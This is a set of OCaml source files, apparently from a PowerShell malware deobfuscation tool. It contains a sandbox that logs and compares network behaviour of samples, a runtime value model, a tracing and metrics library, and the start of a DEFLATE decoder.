