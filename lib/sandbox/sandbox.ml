(** Behaviour sandbox (the TianQiong substitute, paper §IV-C3).

    Runs a script with the interpreter in [Sandbox] mode: side effects are
    recorded as events instead of performed, and downloads return synthetic
    payloads.  Behavioural consistency between an original sample and its
    deobfuscation result is equality of their {e network} event sets. *)

module Value = Psvalue.Value

type report = {
  events : Pseval.Env.event list;
  commands : string list;
      (** unresolved commands with stringified args, invocation order *)
  output : Value.t list;
  host_output : Value.t list;  (** what Write-Host printed *)
  bindings : (string * Value.t) list;
      (** final global-scope bindings the script established, by name *)
  error : string option;  (** execution error, if any; events are kept *)
  failure : Pscommon.Guard.failure option;
      (** set when the run was contained by the guard (stack overflow,
          deadline, stray exception) rather than finishing *)
}

let run ?(max_steps = 1_000_000) ?(timeout_s = infinity) script =
  let deadline = Pscommon.Guard.deadline_after timeout_s in
  let limits =
    { Pseval.Env.default_limits with Pseval.Env.max_steps; deadline }
  in
  let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox ~limits () in
  let report error failure =
    { events = Pseval.Env.events env; commands = Pseval.Env.commands env;
      output = []; host_output = Pseval.Env.sunk_output env;
      bindings = Pseval.Env.global_bindings env; error; failure }
  in
  match
    Pscommon.Guard.protect ~deadline (fun () -> Pseval.Interp.run_script env script)
  with
  | Ok (Ok output) -> { (report None None) with output }
  | Ok (Error msg) -> report (Some msg) None
  | Error failure ->
      (* events recorded before containment are kept: a sample that beacons
         then hangs still yields its network signature *)
      report (Some (Pscommon.Guard.failure_to_string failure)) (Some failure)

(* ---------- canonical effect log (verification) ---------- *)

(* Script-block values stringify to their source text, which variable
   renaming legitimately rewrites; a placeholder keeps the log insensitive
   to renames while still recording that a block was emitted. *)
let canon_value v =
  match v with
  | Value.Script_block _ -> "<scriptblock>"
  | v -> Value.to_string v

(* Layer unwrapping legitimately deletes the interpreter-invocation event
   (`powershell -enc …` becomes the payload itself), so that one event is
   excluded from the comparison log. *)
let comparable_event ev =
  match ev with
  | Pseval.Env.Process_start "powershell" -> false
  | _ -> true

let effect_log r =
  let cmd c = "cmd:" ^ c in
  let event ev = "event:" ^ Pseval.Env.event_to_string ev in
  let out v = "out:" ^ canon_value v in
  let host v = "host:" ^ canon_value v in
  (* final bindings are compared as a sorted multiset of values, not by
     name: variable renaming ($a -> $var1) preserves semantics but not
     names, and the gate must not flag it *)
  let vars =
    r.bindings
    |> List.map (fun (_, v) -> "var:" ^ canon_value v)
    |> List.sort String.compare
  in
  List.map cmd r.commands
  @ List.map event (List.filter comparable_event r.events)
  @ List.map out r.output
  @ List.map host r.host_output
  @ vars
  @ (match r.error with Some _ -> [ "error" ] | None -> [])

let run_for_verify ?(max_steps = 400_000) ?(timeout_s = 5.0) script =
  let r = run ~max_steps ~timeout_s script in
  match r.failure with
  | Some f -> Error (Pscommon.Guard.failure_to_string f)
  | None -> Ok (effect_log r)

let is_network_event = function
  | Pseval.Env.Dns_query _ | Pseval.Env.Tcp_connect _ | Pseval.Env.Http_get _
  | Pseval.Env.Http_download _ ->
      true
  | Pseval.Env.File_write _ | Pseval.Env.File_read _ | Pseval.Env.Process_start _
  | Pseval.Env.Registry_write _ | Pseval.Env.Sleep _ ->
      false

let network_signature report =
  report.events
  |> List.filter is_network_event
  |> List.map Pseval.Env.event_to_string
  |> List.sort_uniq String.compare

let has_network_behavior report = network_signature report <> []

(** Same network behaviour: equal sets of network events. *)
let same_network_behavior a b =
  List.equal String.equal (network_signature a) (network_signature b)

(** The paper's effectiveness rule: a deobfuscation result counts only when
    the tool actually changed the script {e and} behaviour is preserved. *)
let effective ~original ~deobfuscated =
  (not (String.equal (String.trim original) (String.trim deobfuscated)))
  && same_network_behavior (run original) (run deobfuscated)
