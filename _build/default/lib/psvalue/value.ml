(** PowerShell runtime values.

    The interpreter only ever executes {e recoverable pieces} — code whose
    result should be a string, number or simple collection — so the value
    model covers PowerShell's primitives, arrays, hashtables, script blocks
    and the handful of .NET object types that obfuscation recovery code
    touches (streams, encodings, WebClient). *)

open Pscommon

type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | Str of string
  | Char of char
  | Arr of t array  (** mutable on purpose: [\[array\]::Reverse] mutates *)
  | Hash of (t * t) list
  | Script_block of sb
  | Secure_string of string
      (** simulation keeps the plaintext; [Marshal::PtrToStringAuto] round
          trips recover it *)
  | Obj of ps_object

and sb = { sb_ast : Psast.Ast.script_block; sb_text : string }

and ps_object = { otype : string; okind : object_kind }

and object_kind =
  | Web_client
  | Memory_stream of stream_state
  | Deflate_stream of stream_state  (** holds already-inflated data *)
  | Gzip_stream of stream_state
  | Stream_reader of stream_state
  | Encoding_obj of encoding_name
  | Bstr of string  (** result of [SecureStringToBSTR] *)
  | Generic  (** only its type name is known — [ToString] yields it *)

and stream_state = { mutable data : string; mutable pos : int }

and encoding_name = Enc_unicode | Enc_utf8 | Enc_ascii | Enc_default | Enc_utf32

exception Conversion_error of string

let conv_fail fmt = Printf.ksprintf (fun s -> raise (Conversion_error s)) fmt

let of_list = function [] -> Null | [ v ] -> v | vs -> Arr (Array.of_list vs)

let to_list = function
  | Null -> []
  | Arr a -> Array.to_list a
  | v -> [ v ]

let encoding_type_name = function
  | Enc_unicode -> "System.Text.UnicodeEncoding"
  | Enc_utf8 -> "System.Text.UTF8Encoding"
  | Enc_ascii -> "System.Text.ASCIIEncoding"
  | Enc_default -> "System.Text.UTF8Encoding"
  | Enc_utf32 -> "System.Text.UTF32Encoding"

let type_name = function
  | Null -> "System.Object"
  | Bool _ -> "System.Boolean"
  | Int _ -> "System.Int32"
  | Float _ -> "System.Double"
  | Str _ -> "System.String"
  | Char _ -> "System.Char"
  | Arr _ -> "System.Object[]"
  | Hash _ -> "System.Collections.Hashtable"
  | Script_block _ -> "System.Management.Automation.ScriptBlock"
  | Secure_string _ -> "System.Security.SecureString"
  | Obj o -> o.otype

let float_to_string f =
  if Float.is_integer f && Float.abs f < 1e15 then
    Printf.sprintf "%.0f" f
  else
    (* culture-invariant shortest representation *)
    let s = Printf.sprintf "%.15g" f in
    s

(* PowerShell-style stringification. *)
let rec to_string = function
  | Null -> ""
  | Bool b -> if b then "True" else "False"
  | Int n -> string_of_int n
  | Float f -> float_to_string f
  | Str s -> s
  | Char c -> String.make 1 c
  | Arr a -> String.concat " " (Array.to_list (Array.map to_string a))
  | Hash _ -> "System.Collections.Hashtable"
  | Script_block sb -> sb.sb_text
  | Secure_string _ -> "System.Security.SecureString"
  | Obj o -> o.otype

(* numeric conversions: PowerShell parses "0x4B" strings as hex, trims
   whitespace, accepts chars by code point *)
let to_int = function
  | Null -> 0
  | Bool b -> if b then 1 else 0
  | Int n -> n
  | Float f -> int_of_float (Float.round f)
  | Char c -> Char.code c
  | Str s -> (
      let s = String.trim s in
      match int_of_string_opt s with
      | Some n -> n
      | None -> (
          match float_of_string_opt s with
          | Some f -> int_of_float (Float.round f)
          | None -> conv_fail "cannot convert %S to Int32" s))
  | v -> conv_fail "cannot convert %s to Int32" (type_name v)

let to_float = function
  | Null -> 0.0
  | Bool b -> if b then 1.0 else 0.0
  | Int n -> float_of_int n
  | Float f -> f
  | Char c -> float_of_int (Char.code c)
  | Str s -> (
      let s = String.trim s in
      match float_of_string_opt s with
      | Some f -> f
      | None -> (
          match int_of_string_opt s with
          | Some n -> float_of_int n
          | None -> conv_fail "cannot convert %S to Double" s))
  | v -> conv_fail "cannot convert %s to Double" (type_name v)

(* PowerShell truthiness *)
let to_bool = function
  | Null -> false
  | Bool b -> b
  | Int n -> n <> 0
  | Float f -> f <> 0.0
  | Str s -> String.length s > 0
  | Char _ -> true
  | Arr [||] -> false
  | Arr [| v |] -> (
      match v with
      | Null -> false
      | Bool b -> b
      | Int n -> n <> 0
      | Float f -> f <> 0.0
      | Str s -> String.length s > 0
      | _ -> true)
  | Arr _ -> true
  | Hash _ -> true
  | Script_block _ -> true
  | Secure_string _ -> true
  | Obj _ -> true

let to_char = function
  | Char c -> c
  | Int n when n >= 0 && n < 256 -> Char.chr n
  | Int n -> conv_fail "char code %d outside the byte range" n
  | Float f ->
      let n = int_of_float f in
      if Float.is_integer f && n >= 0 && n < 256 then Char.chr n
      else conv_fail "cannot convert %g to Char" f
  | Str s when String.length s = 1 -> s.[0]
  | Str s -> conv_fail "cannot convert %S to Char" s
  | v -> conv_fail "cannot convert %s to Char" (type_name v)

(* byte strings <-> value arrays *)
let bytes_to_value data =
  Arr (Array.init (String.length data) (fun i -> Int (Char.code data.[i])))

let value_to_bytes v =
  match v with
  | Str s -> s
  | Arr a ->
      String.init (Array.length a) (fun i ->
          match a.(i) with
          | Int n -> Char.chr (n land 0xFF)
          | Char c -> c
          | x -> conv_fail "byte array element has type %s" (type_name x))
  | Char c -> String.make 1 c
  | Int n -> String.make 1 (Char.chr (n land 0xFF))
  | Null -> ""
  | v -> conv_fail "cannot convert %s to byte[]" (type_name v)

let chars_to_value s =
  Arr (Array.init (String.length s) (fun i -> Char s.[i]))

(* ---------- loose equality / comparison (PowerShell -eq semantics) ---------- *)

let rec equal_loose ?(case_sensitive = false) a b =
  match (a, b) with
  | Null, Null -> true
  | Null, _ | _, Null -> false
  | Bool x, _ -> x = to_bool b
  | Int _, _ | Float _, _ -> (
      try to_float a = to_float b with Conversion_error _ -> false)
  | Char x, Char y ->
      if case_sensitive then x = y
      else Char.lowercase_ascii x = Char.lowercase_ascii y
  | Char _, _ | Str _, _ ->
      let sa = to_string a and sb = to_string b in
      if case_sensitive then String.equal sa sb else Strcase.equal sa sb
  | Arr xs, Arr ys ->
      Array.length xs = Array.length ys
      && Array.for_all2 (fun x y -> equal_loose ~case_sensitive x y) xs ys
  | Arr _, _ -> false
  | Hash _, _ | Script_block _, _ | Secure_string _, _ | Obj _, _ -> a == b

let compare_loose ?(case_sensitive = false) a b =
  match a with
  | Int _ | Float _ | Bool _ -> Float.compare (to_float a) (to_float b)
  | Char _ | Str _ ->
      let sa = to_string a and sb = to_string b in
      if case_sensitive then String.compare sa sb else Strcase.compare sa sb
  | Null -> if b = Null then 0 else -1
  | _ -> conv_fail "cannot order %s values" (type_name a)

(* ---------- source rendering ---------- *)

(* Renders a recovery result back into script text, preserving semantics:
   strings are single-quoted with '' escaping, numbers are bare (paper
   §III-B2). *)
let quote_single s =
  let buf = Buffer.create (String.length s + 2) in
  Buffer.add_char buf '\'';
  String.iter
    (fun c ->
      if c = '\'' then Buffer.add_string buf "''" else Buffer.add_char buf c)
    s;
  Buffer.add_char buf '\'';
  Buffer.contents buf

let rec to_source_opt v =
  match v with
  | Str s ->
      (* control characters cannot be written in a single-quoted literal
         faithfully; fall back for those *)
      if String.for_all (fun c -> c >= ' ' || c = '\n' || c = '\t' || c = '\r') s
      then Some (quote_single s)
      else None
  | Int n -> Some (string_of_int n)
  | Float f -> Some (float_to_string f)
  | Char c -> Some (Printf.sprintf "[char]%d" (Char.code c))
  | Bool b -> Some (if b then "$true" else "$false")
  | Null -> Some "$null"
  | Arr a ->
      if Array.length a = 0 then Some "@()"
      else
        let parts = Array.map to_source_opt a in
        if Array.for_all Option.is_some parts then
          let rendered = Array.to_list (Array.map Option.get parts) in
          if Array.length a = 1 then Some (Printf.sprintf "@(%s)" (List.hd rendered))
          else Some (String.concat "," rendered)
        else None
  | Hash _ | Script_block _ | Secure_string _ | Obj _ -> None

let is_stringlike = function
  | Str _ | Char _ -> true
  | Int _ | Float _ | Bool _ | Null | Arr _ | Hash _ | Script_block _
  | Secure_string _ | Obj _ ->
      false

(* ---------- pretty-printing for diagnostics ---------- *)

let rec pp fmt = function
  | Null -> Format.pp_print_string fmt "$null"
  | Bool b -> Format.fprintf fmt "%B" b
  | Int n -> Format.fprintf fmt "%d" n
  | Float f -> Format.fprintf fmt "%g" f
  | Str s -> Format.fprintf fmt "%S" s
  | Char c -> Format.fprintf fmt "[char]%C" c
  | Arr a ->
      Format.fprintf fmt "@(%a)"
        (Format.pp_print_list ~pp_sep:(fun f () -> Format.pp_print_string f ", ") pp)
        (Array.to_list a)
  | Hash pairs ->
      Format.fprintf fmt "@{%a}"
        (Format.pp_print_list
           ~pp_sep:(fun f () -> Format.pp_print_string f "; ")
           (fun f (k, v) -> Format.fprintf f "%a=%a" pp k pp v))
        pairs
  | Script_block sb -> Format.fprintf fmt "{%s}" sb.sb_text
  | Secure_string _ -> Format.pp_print_string fmt "<securestring>"
  | Obj o -> Format.fprintf fmt "<%s>" o.otype
