lib/obfuscator/l2.ml: Array Buffer List Patch Printf Pscommon Pslex Rng Strcase String Technique
