(** Observability substrate: span tracer, metrics registry, leveled logger.

    Zero external dependencies and domain-safe by construction:
    {ul
    {- the {e tracer} writes into a per-run ring buffer installed as an
       ambient, {e domain-local} context ([Domain.DLS]) — a trace belongs to
       exactly one domain at a time, so its buffer needs no locking, and
       parallel batch workers each trace their own file without contention;}
    {- the {e metrics registry} is process-global and written from every
       pool domain concurrently, so every cell is an [Atomic] (float cells
       use a CAS loop) and registration takes a mutex;}
    {- the {e logger} level is an [Atomic] read on every call; emission
       takes a mutex so concurrent lines never interleave.}}

    The disabled fast path is one [Domain.DLS.get] plus an immediate
    comparison — no allocation — so instrumentation can stay in hot code
    unconditionally. *)

(* ---------- leveled logger ---------- *)

module Log = struct
  type level = Error | Warn | Info | Debug

  let rank = function Error -> 0 | Warn -> 1 | Info -> 2 | Debug -> 3
  let label = function
    | Error -> "error" | Warn -> "warn" | Info -> "info" | Debug -> "debug"

  let of_string s =
    match String.lowercase_ascii (String.trim s) with
    | "error" -> Some Error
    | "warn" | "warning" -> Some Warn
    | "info" -> Some Info
    | "debug" -> Some Debug
    | _ -> None

  (* [None] = silent (the default); an Atomic so workers spawned after a
     CLI [--log-level] all observe it *)
  let current : level option Atomic.t = Atomic.make None
  let set_level l = Atomic.set current l
  let level () = Atomic.get current

  let enabled l =
    match Atomic.get current with
    | None -> false
    | Some threshold -> rank l <= rank threshold

  let emit_mutex = Mutex.create ()

  let log l msg =
    if enabled l then begin
      Mutex.lock emit_mutex;
      Fun.protect
        ~finally:(fun () -> Mutex.unlock emit_mutex)
        (fun () -> Printf.eprintf "[%s] %s\n%!" (label l) (msg ()))
    end

  let error msg = log Error msg
  let warn msg = log Warn msg
  let info msg = log Info msg
  let debug msg = log Debug msg
end

(* ---------- JSON helpers (local: pscommon depends on nothing) ---------- *)

let json_escape s =
  let buf = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | '\r' -> Buffer.add_string buf "\\r"
      | '\t' -> Buffer.add_string buf "\\t"
      | c when Char.code c < 0x20 ->
          Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let json_string s = "\"" ^ json_escape s ^ "\""

let json_float f =
  if Float.is_integer f && Float.abs f < 1e15 then
    Printf.sprintf "%.1f" f
  else Printf.sprintf "%.6g" f

(* ---------- attributes ---------- *)

type attr_value = S of string | I of int | F of float | B of bool
type attr = string * attr_value

let attr_value_to_json = function
  | S s -> json_string s
  | I n -> string_of_int n
  | F f -> json_float f
  | B b -> string_of_bool b

let attrs_to_json attrs =
  "{"
  ^ String.concat ", "
      (List.map (fun (k, v) -> json_string k ^ ": " ^ attr_value_to_json v) attrs)
  ^ "}"

(* ---------- trace events ---------- *)

type kind = Span_begin | Span_end | Point

let kind_label = function
  | Span_begin -> "begin"
  | Span_end -> "end"
  | Point -> "event"

type event = {
  seq : int;  (** 0-based position in the run's event stream *)
  t_ms : float;  (** ms since trace creation, clamped non-decreasing *)
  kind : kind;
  name : string;
  id : int;  (** span id for begin/end; 0 for point events *)
  parent : int;  (** enclosing span id, 0 at top level *)
  attrs : attr list;
}

let dummy_event =
  { seq = 0; t_ms = 0.0; kind = Point; name = ""; id = 0; parent = 0; attrs = [] }

type open_span = { os_id : int; os_name : string; os_parent : int }

type trace = {
  buf : event array;
  capacity : int;
  mutable pushed : int;  (** total events ever pushed (= next seq) *)
  mutable dropped : int;  (** oldest events overwritten by the ring *)
  mutable created : float;  (** wall clock at creation (epoch seconds) *)
  mutable last_ms : float;  (** monotonicity clamp for [t_ms] *)
  mutable next_id : int;
  mutable stack : open_span list;  (** innermost open span first *)
}

let create ?(capacity = 65536) () =
  let capacity = max 16 capacity in
  { buf = Array.make capacity dummy_event; capacity; pushed = 0; dropped = 0;
    created = Unix.gettimeofday (); last_ms = 0.0; next_id = 0; stack = [] }

(* The wall clock can step backwards (NTP); event timestamps are clamped to
   the previous event's, so the stream is non-decreasing by construction. *)
let now_ms t =
  let ms = (Unix.gettimeofday () -. t.created) *. 1000.0 in
  let ms = if ms < t.last_ms then t.last_ms else ms in
  t.last_ms <- ms;
  ms

let push t kind name ~id ~parent attrs =
  let e = { seq = t.pushed; t_ms = now_ms t; kind; name; id; parent; attrs } in
  t.buf.(t.pushed mod t.capacity) <- e;
  if t.pushed >= t.capacity then t.dropped <- t.dropped + 1;
  t.pushed <- t.pushed + 1

(* Rewind a trace for reuse without reallocating the ring: a long-running
   daemon (or a sampling batch run) traces thousands of requests, and a
   fresh 64k-slot ring per request is pure allocator pressure when most
   traces are never serialized. *)
let reset t =
  t.created <- Unix.gettimeofday ();
  t.pushed <- 0;
  t.dropped <- 0;
  t.last_ms <- 0.0;
  t.next_id <- 0;
  t.stack <- []

(* ---------- ambient installation (Domain.DLS) ---------- *)

let ambient : trace option Domain.DLS.key = Domain.DLS.new_key (fun () -> None)

let install t = Domain.DLS.set ambient (Some t)
let uninstall () = Domain.DLS.set ambient None

let with_trace t f =
  let previous = Domain.DLS.get ambient in
  Domain.DLS.set ambient (Some t);
  Fun.protect ~finally:(fun () -> Domain.DLS.set ambient previous) f

let active () = Option.is_some (Domain.DLS.get ambient)

let current_span t =
  match t.stack with [] -> 0 | s :: _ -> s.os_id

(* ---------- recording ---------- *)

let span_begin ?(attrs = []) name =
  match Domain.DLS.get ambient with
  | None -> 0
  | Some t ->
      let id = t.next_id + 1 in
      t.next_id <- id;
      let parent = current_span t in
      push t Span_begin name ~id ~parent attrs;
      t.stack <- { os_id = id; os_name = name; os_parent = parent } :: t.stack;
      id

let span_end ?(attrs = []) id =
  if id <> 0 then
    match Domain.DLS.get ambient with
    | None -> ()
    | Some t ->
        (* close down to [id]; spans left open by a non-local exit between
           matching begin/end calls are auto-closed on the way *)
        let rec close = function
          | [] -> []  (* unknown id (already closed): drop nothing *)
          | s :: rest when s.os_id = id ->
              push t Span_end s.os_name ~id:s.os_id ~parent:s.os_parent attrs;
              rest
          | s :: rest ->
              push t Span_end s.os_name ~id:s.os_id ~parent:s.os_parent [];
              close rest
        in
        if List.exists (fun s -> s.os_id = id) t.stack then
          t.stack <- close t.stack

let span ?attrs name f =
  let id = span_begin ?attrs name in
  match f () with
  | v ->
      span_end id;
      v
  | exception e ->
      span_end id;
      raise e

let event ?(attrs = []) name =
  match Domain.DLS.get ambient with
  | None -> ()
  | Some t -> push t Point name ~id:0 ~parent:(current_span t) attrs

(* ---------- reading a trace back ---------- *)

let events t =
  let n = min t.pushed t.capacity in
  let first = t.pushed - n in
  List.init n (fun i -> t.buf.((first + i) mod t.capacity))

let dropped t = t.dropped

let event_to_json e =
  Printf.sprintf
    "{\"seq\": %d, \"t_ms\": %.3f, \"kind\": %s, \"name\": %s, \"id\": %d, \
     \"parent\": %d, \"attrs\": %s}"
    e.seq e.t_ms
    (json_string (kind_label e.kind))
    (json_string e.name) e.id e.parent (attrs_to_json e.attrs)

(** One JSON object per line, oldest event first, closed by a summary line
    [{"kind": "summary", "events": N, "dropped": N}]. *)
let to_jsonl t =
  let buf = Buffer.create 4096 in
  List.iter
    (fun e ->
      Buffer.add_string buf (event_to_json e);
      Buffer.add_char buf '\n')
    (events t);
  Buffer.add_string buf
    (Printf.sprintf "{\"kind\": \"summary\", \"events\": %d, \"dropped\": %d}\n"
       t.pushed t.dropped);
  Buffer.contents buf

(* ---------- metrics registry ---------- *)

module Metrics = struct
  (* float cells need a CAS loop: Atomic has no fetch-and-add for floats *)
  let rec atomic_update a f =
    let cur = Atomic.get a in
    if not (Atomic.compare_and_set a cur (f cur)) then atomic_update a f

  type counter = { c_name : string; c : int Atomic.t }
  type gauge = { g_name : string; g : int Atomic.t }

  (* Log-scale latency histogram: bucket [i] counts observations with
     [v <= 2^(i + min_exp)] ms; the last bucket is the +inf overflow.
     Base-2 bounds from 1/16 ms to ~37 h cover every latency this pipeline
     can produce while keeping the array small enough to be all-Atomic. *)
  let min_exp = -4
  let bucket_count = 32

  let bucket_bound i =
    if i >= bucket_count - 1 then infinity
    else Float.of_int 2 ** Float.of_int (i + min_exp)

  let bucket_of v =
    if Float.is_nan v then bucket_count - 1
    else begin
      let rec find i =
        if i >= bucket_count - 1 then bucket_count - 1
        else if v <= bucket_bound i then i
        else find (i + 1)
      in
      find 0
    end

  type histogram = {
    h_name : string;
    buckets : int Atomic.t array;
    h_count : int Atomic.t;
    h_sum : float Atomic.t;
    h_min : float Atomic.t;  (** [infinity] until the first observation *)
    h_max : float Atomic.t;  (** [neg_infinity] until the first observation *)
  }

  type registry = {
    mutable counters : counter list;
    mutable gauges : gauge list;
    mutable histograms : histogram list;
  }

  let registry = { counters = []; gauges = []; histograms = [] }
  let registry_mutex = Mutex.create ()

  let locked f =
    Mutex.lock registry_mutex;
    Fun.protect ~finally:(fun () -> Mutex.unlock registry_mutex) f

  let counter name =
    locked (fun () ->
        match List.find_opt (fun c -> c.c_name = name) registry.counters with
        | Some c -> c
        | None ->
            let c = { c_name = name; c = Atomic.make 0 } in
            registry.counters <- c :: registry.counters;
            c)

  let incr ?(by = 1) c = ignore (Atomic.fetch_and_add c.c by)
  let counter_value c = Atomic.get c.c

  let gauge name =
    locked (fun () ->
        match List.find_opt (fun g -> g.g_name = name) registry.gauges with
        | Some g -> g
        | None ->
            let g = { g_name = name; g = Atomic.make 0 } in
            registry.gauges <- g :: registry.gauges;
            g)

  let set g v = Atomic.set g.g v
  let gauge_value g = Atomic.get g.g

  let histogram name =
    locked (fun () ->
        match
          List.find_opt (fun h -> h.h_name = name) registry.histograms
        with
        | Some h -> h
        | None ->
            let h =
              { h_name = name;
                buckets = Array.init bucket_count (fun _ -> Atomic.make 0);
                h_count = Atomic.make 0;
                h_sum = Atomic.make 0.0;
                h_min = Atomic.make infinity;
                h_max = Atomic.make neg_infinity }
            in
            registry.histograms <- h :: registry.histograms;
            h)

  let observe h v =
    ignore (Atomic.fetch_and_add h.buckets.(bucket_of v) 1);
    ignore (Atomic.fetch_and_add h.h_count 1);
    atomic_update h.h_sum (fun s -> s +. v);
    atomic_update h.h_min (fun m -> Float.min m v);
    atomic_update h.h_max (fun m -> Float.max m v)

  type histogram_snapshot = {
    hs_count : int;
    hs_sum : float;
    hs_min : float;  (** [nan] when empty *)
    hs_max : float;  (** [nan] when empty *)
    hs_buckets : (float * int) list;
        (** non-empty buckets as (upper bound in ms, count); the overflow
            bucket's bound is [infinity] *)
  }

  type snapshot = {
    counters : (string * int) list;  (** sorted by name *)
    gauges : (string * int) list;
    histograms : (string * histogram_snapshot) list;
  }

  let snapshot_histogram h =
    let count = Atomic.get h.h_count in
    let buckets = ref [] in
    for i = bucket_count - 1 downto 0 do
      let n = Atomic.get h.buckets.(i) in
      if n > 0 then buckets := (bucket_bound i, n) :: !buckets
    done;
    { hs_count = count;
      hs_sum = Atomic.get h.h_sum;
      hs_min = (if count = 0 then Float.nan else Atomic.get h.h_min);
      hs_max = (if count = 0 then Float.nan else Atomic.get h.h_max);
      hs_buckets = !buckets }

  (* Quantile estimate from the log2 buckets: the upper bound of the bucket
     the q-th observation falls in (the true max for the overflow bucket,
     since infinity is useless as a latency estimate).  Coarse by design —
     buckets double — but monotone and cheap, which is what a daemon's
     p50/p99 health numbers need. *)
  let quantile hs q =
    if hs.hs_count = 0 then Float.nan
    else begin
      let q = Float.max 0.0 (Float.min 1.0 q) in
      let target =
        Float.max 1.0 (Float.round (q *. float_of_int hs.hs_count))
      in
      let rec walk seen = function
        | [] -> hs.hs_max
        | (bound, n) :: rest ->
            let seen = seen + n in
            if float_of_int seen >= target then
              if bound = infinity then hs.hs_max else bound
            else walk seen rest
      in
      walk 0 hs.hs_buckets
    end

  let by_name (a, _) (b, _) = String.compare a b

  let snapshot () =
    locked (fun () ->
        { counters =
            List.sort by_name
              (List.map (fun c -> (c.c_name, Atomic.get c.c)) registry.counters);
          gauges =
            List.sort by_name
              (List.map (fun g -> (g.g_name, Atomic.get g.g)) registry.gauges);
          histograms =
            List.sort by_name
              (List.map (fun h -> (h.h_name, snapshot_histogram h))
                 registry.histograms) })

  (* Zeroes every registered value; handles created before the reset stay
     valid.  Used at the start of a batch run so metrics.json is per-run. *)
  let reset () =
    locked (fun () ->
        List.iter (fun c -> Atomic.set c.c 0) registry.counters;
        List.iter (fun g -> Atomic.set g.g 0) registry.gauges;
        List.iter
          (fun h ->
            Array.iter (fun b -> Atomic.set b 0) h.buckets;
            Atomic.set h.h_count 0;
            Atomic.set h.h_sum 0.0;
            Atomic.set h.h_min infinity;
            Atomic.set h.h_max neg_infinity)
          registry.histograms)

  let histogram_snapshot_to_json hs =
    let min_s = if Float.is_nan hs.hs_min then "null" else json_float hs.hs_min in
    let max_s = if Float.is_nan hs.hs_max then "null" else json_float hs.hs_max in
    Printf.sprintf
      "{\"count\": %d, \"sum_ms\": %s, \"min_ms\": %s, \"max_ms\": %s, \
       \"buckets\": [%s]}"
      hs.hs_count (json_float hs.hs_sum) min_s max_s
      (String.concat ", "
         (List.map
            (fun (le, n) ->
              if le = infinity then Printf.sprintf "{\"le_ms\": null, \"n\": %d}" n
              else Printf.sprintf "{\"le_ms\": %s, \"n\": %d}" (json_float le) n)
            hs.hs_buckets))

  let snapshot_to_json s =
    let field (name, v) = Printf.sprintf "    %s: %d" (json_string name) v in
    let hfield (name, hs) =
      Printf.sprintf "    %s: %s" (json_string name)
        (histogram_snapshot_to_json hs)
    in
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"counters\": {\n%s\n  },"
          (String.concat ",\n" (List.map field s.counters));
        Printf.sprintf "  \"gauges\": {\n%s\n  },"
          (String.concat ",\n" (List.map field s.gauges));
        Printf.sprintf "  \"histograms\": {\n%s\n  }"
          (String.concat ",\n" (List.map hfield s.histograms));
        "}";
      ]
end
