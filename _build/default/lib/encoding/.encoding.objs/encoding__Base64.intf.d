lib/encoding/base64.mli:
