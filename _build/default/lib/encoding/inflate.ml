let max_output = 64 * 1024 * 1024

let length_base =
  [| 3; 4; 5; 6; 7; 8; 9; 10; 11; 13; 15; 17; 19; 23; 27; 31; 35; 43; 51; 59;
     67; 83; 99; 115; 131; 163; 195; 227; 258 |]

let length_extra =
  [| 0; 0; 0; 0; 0; 0; 0; 0; 1; 1; 1; 1; 2; 2; 2; 2; 3; 3; 3; 3; 4; 4; 4; 4;
     5; 5; 5; 5; 0 |]

let dist_base =
  [| 1; 2; 3; 4; 5; 7; 9; 13; 17; 25; 33; 49; 65; 97; 129; 193; 257; 385;
     513; 769; 1025; 1537; 2049; 3073; 4097; 6145; 8193; 12289; 16385; 24577 |]

let dist_extra =
  [| 0; 0; 0; 0; 1; 1; 2; 2; 3; 3; 4; 4; 5; 5; 6; 6; 7; 7; 8; 8; 9; 9; 10;
     10; 11; 11; 12; 12; 13; 13 |]

let code_length_order =
  [| 16; 17; 18; 0; 8; 7; 9; 6; 10; 5; 11; 4; 12; 3; 13; 2; 14; 1; 15 |]

exception Corrupt of string

let decoder lengths what =
  match Huffman.decoder_of_lengths lengths with
  | Ok d -> d
  | Error msg -> raise (Corrupt (what ^ ": " ^ msg))

let inflate_block_data reader out lit_decoder dist_decoder =
  let finished = ref false in
  while not !finished do
    let sym = Huffman.read_symbol lit_decoder reader in
    if sym < 256 then begin
      if Buffer.length out >= max_output then raise (Corrupt "output too large");
      Buffer.add_char out (Char.chr sym)
    end
    else if sym = 256 then finished := true
    else begin
      let idx = sym - 257 in
      if idx >= Array.length length_base then raise (Corrupt "bad length symbol");
      let len = length_base.(idx) + Bitstream.Reader.bits reader length_extra.(idx) in
      let dsym = Huffman.read_symbol dist_decoder reader in
      if dsym >= Array.length dist_base then raise (Corrupt "bad distance symbol");
      let dist = dist_base.(dsym) + Bitstream.Reader.bits reader dist_extra.(dsym) in
      let start = Buffer.length out - dist in
      if start < 0 then raise (Corrupt "distance too far back");
      if Buffer.length out + len > max_output then raise (Corrupt "output too large");
      for i = 0 to len - 1 do
        Buffer.add_char out (Buffer.nth out (start + i))
      done
    end
  done

let read_dynamic_tables reader =
  let hlit = Bitstream.Reader.bits reader 5 + 257 in
  let hdist = Bitstream.Reader.bits reader 5 + 1 in
  let hclen = Bitstream.Reader.bits reader 4 + 4 in
  let cl_lengths = Array.make 19 0 in
  for i = 0 to hclen - 1 do
    cl_lengths.(code_length_order.(i)) <- Bitstream.Reader.bits reader 3
  done;
  let cl_decoder = decoder cl_lengths "code-length code" in
  let lengths = Array.make (hlit + hdist) 0 in
  let pos = ref 0 in
  while !pos < hlit + hdist do
    let sym = Huffman.read_symbol cl_decoder reader in
    match sym with
    | s when s < 16 ->
        lengths.(!pos) <- s;
        incr pos
    | 16 ->
        if !pos = 0 then raise (Corrupt "repeat with no previous length");
        let prev = lengths.(!pos - 1) in
        let count = 3 + Bitstream.Reader.bits reader 2 in
        for _ = 1 to count do
          if !pos >= Array.length lengths then raise (Corrupt "repeat overflow");
          lengths.(!pos) <- prev;
          incr pos
        done
    | 17 ->
        let count = 3 + Bitstream.Reader.bits reader 3 in
        if !pos + count > Array.length lengths then raise (Corrupt "repeat overflow");
        pos := !pos + count
    | 18 ->
